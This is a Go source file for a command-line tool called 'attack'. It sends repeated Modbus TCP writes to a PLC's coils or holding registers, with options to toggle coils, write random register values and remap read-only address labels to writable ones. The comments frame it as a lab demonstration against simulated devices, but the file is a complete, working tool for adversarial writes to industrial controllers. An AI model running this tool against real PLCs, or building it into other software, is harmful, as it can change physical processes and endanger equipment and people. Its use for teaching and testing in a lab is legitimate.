// The attack command sends repeated Modbus write requests to a target
// register, for demonstrating adversarial writes against the simulated PLC in
// a lab setup. Read-only spaces are remapped to their writable counterparts
// (di -> coil, ir -> hr) so any displayed label can be targeted.
package main

import (
	"fmt"
	"math/rand"
	"os"
	"regexp"
	"strconv"
	"time"

	"github.com/goburrow/modbus"
	"github.com/spf13/cobra"
)

var targetPattern = regexp.MustCompile(`^([a-zA-Z_]+)\[(\d+)\]$`)

type options struct {
	host    string
	port    int
	unit    uint8
	target  string
	num     int
	wait    int
	value   string
	toggle  bool
	random  bool
	verbose bool
}

func main() {
	var opts options

	rootCmd := &cobra.Command{
		Use:   "attack",
		Short: "Send repeated Modbus write requests to a target register",
		Long: `Send repeated Modbus write requests to a target like coil[1], hr[5],
di[2] or ir[3]. Read-only spaces are remapped to writable primitives:
di[*] -> coil[*], ir[*] -> hr[*].

Only use against lab or simulated devices you control.`,
		Example: `  # toggle coil 1 fifty times, 200ms apart
  attack --host 192.0.2.10 --target "coil[1]" --num 50 --wait 200 --toggle

  # write 1500 into holding register 5 five times
  attack --host 192.0.2.10 --target "hr[5]" --value 1500 --num 5 --wait 500`,
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(opts)
		},
	}

	rootCmd.Flags().StringVarP(&opts.host, "host", "H", "127.0.0.1", "target host")
	rootCmd.Flags().IntVarP(&opts.port, "port", "P", 5020, "target port")
	rootCmd.Flags().Uint8VarP(&opts.unit, "unit", "u", 1, "unit id")
	rootCmd.Flags().StringVarP(&opts.target, "target", "t", "", "target like coil[1], hr[5], di[2], ir[3]")
	rootCmd.Flags().IntVarP(&opts.num, "num", "n", 1, "number of write requests")
	rootCmd.Flags().IntVarP(&opts.wait, "wait", "w", 0, "milliseconds between requests")
	rootCmd.Flags().StringVarP(&opts.value, "value", "v", "", "value to write (coils: 1/0/true/false, registers: integer)")
	rootCmd.Flags().BoolVar(&opts.toggle, "toggle", false, "toggle coil value each request")
	rootCmd.Flags().BoolVar(&opts.random, "random", false, "randomize register values each request")
	rootCmd.Flags().BoolVarP(&opts.verbose, "verbose", "V", false, "print response bytes")
	_ = rootCmd.MarkFlagRequired("target")

	if err := rootCmd.Execute(); err != nil {
		os.Exit(1)
	}
}

type targetKind int

const (
	kindCoil targetKind = iota
	kindHolding
)

// parseTarget resolves a target expression to a writable primitive.
func parseTarget(s string) (targetKind, uint16, error) {
	m := targetPattern.FindStringSubmatch(s)
	if m == nil {
		return 0, 0, fmt.Errorf("invalid target %q, expected like coil[1] or hr[5]", s)
	}
	addr, err := strconv.ParseUint(m[2], 10, 16)
	if err != nil {
		return 0, 0, fmt.Errorf("invalid target address %q: %w", m[2], err)
	}
	switch m[1] {
	case "coil", "coils", "di", "discrete", "discrete_input", "discrete_inputs":
		return kindCoil, uint16(addr), nil
	case "hr", "holding", "holding_register", "holding_registers",
		"ir", "input", "input_register", "input_registers":
		return kindHolding, uint16(addr), nil
	}
	return 0, 0, fmt.Errorf("unknown target kind %q", m[1])
}

func parseBool(s string) bool {
	switch s {
	case "0", "false", "off", "no":
		return false
	}
	return true
}

func run(opts options) error {
	kind, addr, err := parseTarget(opts.target)
	if err != nil {
		return err
	}

	handler := modbus.NewTCPClientHandler(fmt.Sprintf("%s:%d", opts.host, opts.port))
	handler.Timeout = 3 * time.Second
	handler.SlaveId = opts.unit
	if err := handler.Connect(); err != nil {
		return fmt.Errorf("connect %s:%d: %w", opts.host, opts.port, err)
	}
	defer handler.Close()
	client := modbus.NewClient(handler)

	fmt.Printf("Connected to %s:%d unit=%d\n", opts.host, opts.port, opts.unit)
	fmt.Printf("Target -> %s (address %d)\n", opts.target, addr)
	fmt.Printf("Requests -> num=%d, wait=%dms, toggle=%v, random=%v\n",
		opts.num, opts.wait, opts.toggle, opts.random)

	successes := 0
	coilValue := true
	if opts.value != "" {
		coilValue = parseBool(opts.value)
	}
	for i := 0; i < opts.num; i++ {
		var (
			results []byte
			written string
			err     error
		)
		switch kind {
		case kindCoil:
			v := uint16(0x0000)
			if coilValue {
				v = 0xFF00
			}
			written = fmt.Sprintf("%v", coilValue)
			results, err = client.WriteSingleCoil(addr, v)
			if opts.toggle {
				coilValue = !coilValue
			}
		case kindHolding:
			value := 100
			if opts.value != "" {
				if v, convErr := strconv.Atoi(opts.value); convErr == nil {
					value = v
				}
			}
			if opts.random {
				value = rand.Intn(0x8000)
			}
			written = strconv.Itoa(value)
			results, err = client.WriteSingleRegister(addr, uint16(value))
		}

		ts := time.Now().Format(time.DateTime)
		if err != nil {
			fmt.Fprintf(os.Stderr, "[%s] #%d/%d WRITE FAIL -> %s <= %s (%v)\n",
				ts, i+1, opts.num, opts.target, written, err)
		} else {
			successes++
			if opts.verbose {
				fmt.Printf("[%s] #%d/%d WRITE OK -> %s <= %s resp=% X\n",
					ts, i+1, opts.num, opts.target, written, results)
			} else {
				fmt.Printf("[%s] #%d/%d WRITE OK -> %s <= %s\n",
					ts, i+1, opts.num, opts.target, written)
			}
		}

		if i != opts.num-1 && opts.wait > 0 {
			time.Sleep(time.Duration(opts.wait) * time.Millisecond)
		}
	}

	fmt.Printf("Done. successes: %d/%d\n", successes, opts.num)
	return nil
}
